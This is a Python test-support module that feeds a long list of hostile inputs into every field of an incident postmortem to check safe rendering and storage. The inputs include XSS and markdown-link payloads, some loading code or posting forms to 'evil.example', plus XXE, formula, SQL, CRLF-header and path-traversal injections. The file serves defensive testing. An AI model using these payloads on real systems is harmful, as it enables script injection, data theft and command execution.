"""Hostile and awkward things that people can type, and a postmortem that holds one of them in every field.

The list is the one of docs/promises.md, P13. ``filled_with`` puts a text into each field together with a
word of its own, so that a test can see that each field arrived once and whole.
"""

from collections.abc import Callable, Iterator

from core.domain.postmortem import Postmortem
from core.domain.template import Column, Field
from tests.support.every_field import chosen, fill

CODE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<base href=//evil.example>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<form action=//evil.example><input name=x><button>go</button></form>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<!-- comment -->\n<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<a href=javascript:alert(1) onclick=alert(1)>x</a>",
    "<p style=position:fixed;inset:0 class=x id=y>over everything</p>",
    "</main></body></html><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
)

LINKS = (
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](//evil.example)",
    "[a](file:///etc/passwd)",
    "[a]: javascript:alert(1)\n[a]",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://evil.example/>",
    '[a](https://evil.example/"onmouseover="alert(1))',
    "[a](https://evil.example/ 'onmouseover=alert(1)')",
    "![x](http://evil.example/t.png)",
    "![x][y]\n\n[y]: http://evil.example/t.png",
    "[![x](http://evil.example/t.png)](http://evil.example)",
    "\\[a](javascript:alert(1))",
    "\\\\[a](javascript:alert(1))",
    "[`a](javascript:alert(1)) `b",
    "[a](https://x`) <img src=x onerror=alert(1)> `y)",
)

STRUCTURE = (
    "# heading\n## heading\n### heading ###",
    "heading\n=======\nheading\n-------",
    "text\n-   \nmore",
    "---\ntitle: front matter\n---",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "a | b\n--- | ---\n1 | 2",
    "```\nunclosed fence",
    "~~~~\n```\n~~~",
    "   ```\nindented fence",
    "```\n# in a fence <b>\n```",
    "> # quoted heading\n> ```\n> open",
    "- # heading in a list\n- ---\n- > quote\n1. one\n1. again\n7. seven",
    "    four spaces\n\ttab",
    "`</code><script>`",
    "`` ` <b> `",
    "`|` | `a|b` \\| \\",
    "ends with a backslash\\",
    "ends with a backslash\\\nand goes on",
    "<br><BR/><br onclick=alert(1)>",
    "***bold _and* more__ ~~x~~",
    "[ ] not a box\n[x] neither",
    "1900. was a year",
    "2) a bracket",
    "&lt;b&gt; &copy; &#x3C;script&#x3E;",
    "\x02klzzwxh:0000\x03 wzxhzdk:0",
    "*[HTML]: abbreviation\n[^1]: footnote\nTerm\n: definition",
)

FOREIGN = (
    ":red[x] :material/home: :rainbow[y]",
    "$$\\href{javascript:alert(1)}{x}$$ $\\url{file:///etc/passwd}$",
    "{{7*7}} ${7*7} %s%n {0.__class__} #{7*7} <%= 7*7 %>",
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "x\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nEND:VALARM",
    "x\r\nBcc: victim@evil.example",
    "../../etc/passwd",
    "CON",
    "'; DROP TABLE postmortem; --",
    '" OR NEAR(',
    "& | ! :*",
)

UNICODE = (
    "\u202egnp.exe",
    "zero\u200bwidth\ufeff",
    "nul\x00 and \x1b[31mescape\x07",
    "line\u2028separator\u2029and\x85next\x0b\x0c",
    "مرحبا (a) שלום",
    "👩🏽‍🚒🏳️‍🌈 e\u0301",
)

HUGE = (
    "a" + "\u0301" * 10_000,
    "w" * 100_000,
    "a" * 50_000 + "!",
    "[" * 20_000,
    "<a" * 20_000,
    "*_`" * 10_000,
    "> " * 5_000 + "deep",
    "x" * 255,
)

PAYLOADS = (*CODE, *LINKS, *STRUCTURE, *FOREIGN, *UNICODE)


def filled_with(payload: str, put: Callable[[str, str], str] | None = None) -> tuple[Postmortem, list[str]]:
    """A postmortem with the payload in every field, and the words that mark the fields.

    ``put(payload, word)`` makes a field's text; by default the payload between two words.
    """
    place = put or (lambda text, word: f"{word}begin {text} {word}end")
    phrase = _words()
    used: list[str] = []

    def typed() -> str:
        used.append(next(phrase))
        return place(payload, used[-1])

    return _everywhere(typed), used


def _words() -> Iterator[str]:
    """``fieldaa``, ``fieldab``: letters only, so that no reader finds anything to do in them."""
    letters = "abcdefghijklmnopqrstuvwxyz"
    return (f"field{letter}{two}" for letter in letters for two in letters)


def _everywhere(typed: Callable[[], str]) -> Postmortem:
    """``typed`` is asked once for each field and column in which somebody can type; each list has two rows.

    Of two rows the first has its choices, ticks and dates, but for the marks of the timeline: the picture of the
    incident would show its texts a second time.
    """
    seen: set[str] = set()

    def value(place: str, described: Field | Column) -> object:
        first = place not in seen
        seen.add(place)
        in_picture = place in ("timeline.kind", "timeline.star")
        return chosen(described) if first and isinstance(described, Column) and not in_picture else None

    return fill(lambda _: typed(), value, typed=False, rows=2)
